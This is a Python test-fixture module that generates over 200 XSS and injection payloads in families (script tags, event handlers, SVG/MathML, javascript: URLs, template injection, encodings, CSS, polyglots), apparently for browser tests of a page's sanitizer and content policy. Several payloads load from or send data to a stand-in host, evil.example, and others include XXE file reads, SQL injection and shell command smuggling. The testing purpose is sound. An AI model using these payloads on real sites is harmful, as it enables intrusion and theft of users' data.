"""Texts that try to become more than text: 200 and more, made by families.

Whatever one of them manages to run sets `window.owned`, opens a dialog or changes the title; `tests.browser.watching`
looks for all three, and for everything that the pages' policy had to stop.
"""

from collections.abc import Iterator

RUN = "window.owned=1"
LONG = 1_000_000


def scripts() -> Iterator[str]:
    """Script elements, whole, broken and in disguise."""
    yield from (
        f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\n>{RUN}</script\n>",
        f"<script/x>{RUN}</script>",
        f"<script>{RUN}//", f"<<script>{RUN};//<</script>", f"<script x=>{RUN}</script>",
        f"<scr<script>ipt>{RUN}</script>",
        "<script src=//evil.example/x.js></script>", "<script src='data:text/javascript,window.owned=1'></script>",
        "<script type=module>import('//evil.example/x.js')</script>", f"<script>/*{RUN}*/{RUN}</script>",
        f"</script><script>{RUN}</script>", f"<script\x00>{RUN}</script>", f"<script\x0b>{RUN}</script>",
        f"<noscript><p title='</noscript><script>{RUN}</script>'>", f"<!--><script>{RUN}</script>-->",
        f"<script type='importmap'>{{}}</script><script>{RUN}</script>",
    )  # fmt: skip


def handlers() -> Iterator[str]:
    """Elements whose attributes run."""
    elements = {
        "img src=x": "onerror", "body": "onload", "input autofocus": "onfocus", "video src=x": "onerror",
        "audio src=x": "onerror", "details open": "ontoggle", "marquee": "onstart", "select autofocus": "onfocus",
        "iframe": "onload", "object data=x": "onerror", "style": "onload", "link rel=stylesheet href=x": "onerror",
        "textarea autofocus": "onfocus", "div style=animation-name:x": "onanimationstart",
        "button autofocus": "onfocus",
        "p tabindex=1 id=x": "onfocusin", "video controls": "onloadstart", "img srcset=x": "onerror",
        "dialog open": "onclose", "div contenteditable": "onblur", "div popover id=z": "onbeforetoggle",
        "input type=image src=x": "onerror", "picture><source srcset=x><img src=x": "onerror", "a href=x": "onclick",
    }  # fmt: skip
    for element, event in elements.items():
        yield f"<{element} {event}={RUN}>"
    yield from (
        f"<img src=x onerror='{RUN}'>", f'<img src="x" onerror="{RUN}">', f"<img src=x onerror=`{RUN}`>",
        f"<img/src=x/onerror={RUN}>", f"<img src=x:x onerror\n=\n{RUN}>", f"<IMG SRC=x OnErRoR={RUN}>",
        "<img src=x onerror=eval(atob('d2luZG93Lm93bmVkPTE='))>", "<img src=x onerror=alert(1)>",
        "<img src=x onerror=&#119;indow.owned=1>", "<img src=x onerror=document.title='owned'>",
        f"<img src=x onerror=\x0c{RUN}>", f'<img """><script>{RUN}</script>">',
    )  # fmt: skip


def drawings() -> Iterator[str]:
    """SVG and MathML, which the sample page draws with itself."""
    yield from (
        f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>",
        "<svg><a xlink:href='javascript:window.owned=1'><text y=9>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=window.owned=1>#x'/></svg>",
        f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>", f"<svg><image href=x onerror={RUN}></svg>",
        f"</text></svg><img src=x onerror={RUN}>", f"</title></svg><script>{RUN}</script>",
        f"<svg><title><![CDATA[</title><script>{RUN}</script>]]></title></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><desc><style><img src onerror={RUN}></style></desc>",
        "<math><a xlink:href='javascript:window.owned=1'>x</a></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
        f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
        "<math href='javascript:window.owned=1'>x</math>",
        "<maction actiontype='statusline#x' xlink:href='javascript:1'>",
        f"<svg><animate attributeName=href values='javascript:{RUN}'/></svg>",
    )  # fmt: skip


def links() -> Iterator[str]:
    """Addresses that are programs."""
    spelt = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "javascript&colon;", "\x01javascript:")
    for scheme in spelt:
        yield f"<a href='{scheme}{RUN}'>x</a>"
        yield f"{scheme}{RUN}"
    yield from (
        f"<iframe src='javascript:{RUN}'></iframe>", f"<form action='javascript:{RUN}'><button>x</button></form>",
        f"<button formaction='javascript:{RUN}'>x</button>", "data:text/html,<script>opener.owned=1</script>",
        "vbscript:msgbox(1)", f"<embed src='javascript:{RUN}'>", f"<object data='javascript:{RUN}'></object>",
        f"<area href='javascript:{RUN}'>", "//evil.example/", "http://evil.example/x.png", "/decide", "?token=x",
    )  # fmt: skip


def templates() -> Iterator[str]:
    """What a template engine, a client's library or a shell would work out."""
    yield from (
        "{{ 7 * 7 }}", "{% for x in range(9) %}{{ x }}{% endfor %}", "{# hidden #}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{{ config }}", "{{ self.__init__.__globals__ }}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{constructor.constructor('window.owned=1')()}}", "{% raw %}{{ x }}{% endraw %}",
        "{%- include 'frame.html' -%}",
        "{{ '<script>window.owned=1</script>' | safe }}", "{% autoescape false %}<b>{% endautoescape %}",
        "`${window.owned=1}`",
        "{{{x}}}", "[[${7*7}]]", "%{7*7}", "@{7*7}", "$(touch /tmp/owned)", "%s %n %x", "{0.__class__}",
    )  # fmt: skip


def breakouts() -> Iterator[str]:
    """The ends of attributes, texts and elements."""
    for end in ('"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "*/", "?>", "%>", "\\", '\\"', "</"):
        yield f"{end} onmouseover={RUN} x={end}"
    for element in (
        "title",
        "textarea",
        "style",
        "script",
        "noscript",
        "template",
        "select",
        "option",
        "pre",
        "summary",
    ):
        yield f"</{element}><img src=x onerror={RUN}>"
    yield from (
        f'" autofocus onfocus={RUN} "', f"' style='animation-name:x' onanimationstart='{RUN}",
        f'"/><script>{RUN}</script>',
        f"\r\n\r\n<script>{RUN}</script>", f'</textarea\n><script>{RUN}</script>', f'"}}]);{RUN};//', f"');{RUN};//",
        '","verdict":"accept","x":"', f"</mark></div></main><script>{RUN}</script>", "\u2028window.owned=1\u2029",
    )  # fmt: skip


def encodings() -> Iterator[str]:
    """The same said in other letters."""
    word = f"<script>{RUN}</script>"
    yield from (
        word.replace("<", "&lt;").replace(">", "&gt;"), "".join(f"&#{ord(one)};" for one in word),
        "".join(f"&#x{ord(one):x}" for one in word), "".join(f"%{ord(one):02X}" for one in word),
        "".join(f"\\u{ord(one):04x}" for one in word), "".join(f"\\x{ord(one):02x}" for one in word),
        word.replace("<", "\uff1c").replace(">", "\uff1e"), "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
        "".join(f"%25{ord(one):02X}" for one in word), word.replace("<", "\u02c2").replace(">", "\u02c3"),
        "\u0130mg src=x onerror=1", "<\u017fcript>window.owned=1</\u017fcript>", "&amp;lt;script&amp;gt;",
        "&LT;script&GT;",
        word.encode("utf-16-le").decode("latin-1").replace("\x00", "\u200b"), "\ufeff" + word, "PHNjcmlwdD4=",
        "&NewLine;<img src=x onerror=&Tab;window.owned=1>",
    )  # fmt: skip


def turned() -> Iterator[str]:
    """Marks that turn, join and hide others."""
    for (
        mark
    ) in "\u202e\u202d\u202a\u202b\u2066\u2067\u2068\u200e\u200f\u061c\u200b\u2060\ufeff\u00ad\u180e\x00\x1b\x7f":
        yield f"safe{mark}<b onclick={RUN}>"
    yield from ("\u202etpircs<", "e\u0301" * 40 + f"<i onclick={RUN}>", "\U000e0041\U000e0042<u>", "\ud7ff\ue000<s>")


def unclosed() -> Iterator[str]:
    """Elements, comments and sections that swallow what follows, or are nested without end."""
    yield from (
        "<!--", "<!-- <img src=x>", "<![CDATA[", "<textarea>", "<plaintext>", "<xmp>", "<title>", "<style>", "<script>",
        "<svg>", "<math>", "<select>", "<template>", "<noembed>", "<noframes>", "<iframe>", "<listing>", "<frameset>",
        "<a href='", '<img src="', "<div " * 50, "<b>" * 200, "<table><tr><td>", "</body></html>",
        "<form><input name=sample>",
    )  # fmt: skip


def styles() -> Iterator[str]:
    """CSS that hides, loads or runs."""
    yield from (
        "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>",
        "<p style='background:url(//evil.example/x)'>", "<p style='position:fixed;inset:0;z-index:99'>x",
        "<link rel=stylesheet href=//evil.example/x.css>", "}*{display:none}", "expression(window.owned=1)",
        f"<p style='x:expression({RUN})'>", "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "<style>@font-face{font-family:x;src:url(//evil.example/x)}</style>",
    )  # fmt: skip


def frames() -> Iterator[str]:
    """What changes the page, its base or where it leads, and what names clobber its scripts."""
    yield from (
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<meta http-equiv=refresh content=0;url=javascript:1>",
        "<base href=//evil.example/>", "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
        "<iframe src=//evil.example/></iframe>", "<object data=//evil.example/></object>",
        "<embed src=//evil.example/>",
        "<meta http-equiv=Content-Security-Policy content=''>", "<form id=filters action=//evil.example/>",
        "<a id=audit><a id=audit name=post href=//evil.example/>", "<img name=body>", "<input id=said>",
        "<p id=rejecting>", "<portal src=//evil.example/>", "<link rel=prefetch href=//evil.example/>",
        "<img src=//evil.example/x.png>", "<video poster=//evil.example/x>", "<applet code=x>", "<keygen autofocus>",
    )  # fmt: skip


def polyglots() -> Iterator[str]:
    """Texts that are many things at once."""
    yield from (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.owned=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
        "</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.owned=1//>\\x3e",
        f"'\"--></style></script><svg onload={RUN}>", f"\"'><img src=x onerror={RUN}>{{{{7*7}}}}${{7*7}}",
        f"<!--<img src='--><img src=x onerror={RUN}//'>", f"<![CDATA[<]]>script>{RUN}<![CDATA[<]]>/script>",
        f"<div id='</script><script>{RUN}</script>'>", "GIF89a/*<svg/onload=window.owned=1>*/=window.owned=1;",
        f"-->'\"/></sCript><deTailS open x=\">\" ontoggle={RUN}>", "../../../../etc/passwd<script>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "\\'; DROP TABLE rows; --",
        "\" UNION SELECT 1,2,3 --", "=HYPERLINK(\"//evil.example/\")", "@import '//evil.example/'",
        "NEAR(a b) OR * AND \"",
    )  # fmt: skip


FAMILIES = (
    scripts, handlers, drawings, links, templates, breakouts, encodings, turned, unclosed, styles, frames, polyglots,
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(text for family in FAMILIES for text in family()))


def long_lines() -> tuple[str, ...]:
    """Lines of a megabyte: of tags, of characters that take two codes, and after a script."""
    return ("<b>" * (LONG // 3), "\U0001f600" * (LONG // 4), f"<script>{RUN}</script>" + "x" * LONG)
